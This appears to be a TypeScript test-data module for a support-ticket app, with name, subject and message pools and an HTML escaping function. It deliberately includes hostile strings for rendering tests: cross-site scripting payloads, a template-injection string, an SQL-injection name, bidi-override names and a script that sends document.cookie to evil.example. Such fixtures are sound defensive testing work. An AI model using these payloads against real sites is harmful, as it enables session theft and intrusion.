/** Word pools for generated data, including the hostile strings every view must survive. */
export const FIRST_NAMES = [
  'Maya',
  'Liam',
  'Olivia',
  'Noah',
  'Amara',
  'Kenji',
  'Sofia',
  'Mateo',
  'Priya',
  'Jonas',
  'Aisha',
  'Lucas',
  'Mei',
  'Omar',
  'Freya',
  'Tomás',
  'Zoë',
  'Björn',
  'Chloé',
  'Dmitri',
  'Ngozi',
  'Hiroshi',
  'Ines',
  'Rafael',
] as const;

export const LAST_NAMES = [
  'Müller',
  'Okafor',
  'Tanaka',
  'García',
  'Smith',
  'Nguyen',
  'Kowalski',
  'Haddad',
  'Rossi',
  'Johansson',
  'Patel',
  "O'Brien",
  'Dubois',
  'Ivanova',
  'Costa',
  'Kim',
  'Fischer',
  'Mensah',
  'Novak',
  'Silva',
] as const;

/** Names a careless renderer would break on: markup, scripts, RTL, emoji, bidi overrides, long text. */
export const HOSTILE_NAMES = [
  '<script>alert("name")</script>',
  '<img src=x onerror=alert(1)> Mallory',
  'محمد الأحمد',
  'שרה כהן',
  '李小龍 🐉',
  'Zoë 👩‍💻 Quinn',
  '\u202Egnp.exe Reverse',
  'Robert"); DROP TABLE tickets;--',
  `Anne-Marie ${'Verylongsurname'.repeat(6)}`,
  '&lt;b&gt;Escaped&lt;/b&gt; Eve',
] as const;

export const SUBJECTS = [
  'Refund not received for order {n}',
  'Cannot log in after password reset',
  'Charged twice this month',
  'Package {n} arrived damaged',
  'How do I change my plan?',
  'App crashes when exporting reports',
  'Invoice {n} shows the wrong VAT',
  'Subscription cancelled by mistake',
  'Two-factor code never arrives',
  'Feature request: dark mode',
  'Shipping to Norway?',
  'Discount code {n} rejected at checkout',
  'Account locked after too many attempts',
  'Wrong item delivered',
  'Need a copy of my receipt',
] as const;

export const HOSTILE_SUBJECTS = [
  '<script>document.title="pwned"</script> urgent refund',
  '<img src=x onerror="alert(\'subject\')"> broken image',
  'الطلب رقم 4521 لم يصل',
  'ההזמנה שלי לא הגיעה',
  '🔥🔥 URGENT 🔥🔥 charged 3× 💳',
  'Ünïcödé façade — “quotes” & ampersands',
  '\u202Eevil.txt\u202C bidi override',
  '{{constructor.constructor("alert(1)")()}} template',
] as const;

export const CUSTOMER_LINES = [
  'Hi, I still have not received the refund you promised last week.',
  'I have tried resetting my password three times and nothing works.',
  'Your app charged my card twice. Please fix this.',
  'The box was crushed and the item inside is broken.',
  'Could you tell me how to move to the annual plan?',
  'Thanks, that worked!',
  'This is the third time I am writing about this.',
  'Any update on this?',
] as const;

export const AGENT_LINES = [
  'Thanks for reaching out. I am looking into this now.',
  'I have issued the refund; it should appear in 5 to 7 business days.',
  'Could you send me a screenshot of the error?',
  'I have escalated this to our billing team.',
  'I reset your account; please try again.',
  'Sorry for the trouble. A replacement is on its way.',
] as const;

export const NOTE_LINES = [
  'Customer is frustrated; third contact this month.',
  'Checked the payment provider: two captures on the same day.',
  'Escalating to Tier 2, needs a database fix.',
  'Handing back to the owner with the fix confirmed.',
  'VIP account, handle with care.',
] as const;

export const HOSTILE_BODIES = [
  '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
  '<img src=x onerror="alert(document.domain)">',
  'مرحباً، لم أستلم المبلغ المسترد بعد. شكراً',
  'שלום, החיוב הופיע פעמיים בכרטיס שלי',
  'Emoji storm 😀😃😄😁😆😅🤣😂🙂🙃😉😊😇🥰😍🤩😘 and ZWJ 👨‍👩‍👧‍👦',
  '<a href="javascript:alert(1)">click me</a> for your refund',
  '<iframe src="https://evil.example"></iframe> hidden frame',
  '<style>body{display:none}</style> invisible page',
] as const;

export const TAGS = [
  'billing',
  'refund',
  'login',
  'bug',
  'vip',
  'shipping',
  'damaged',
  'plan_change',
  'tax',
] as const;

export function escapeHtml(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
}
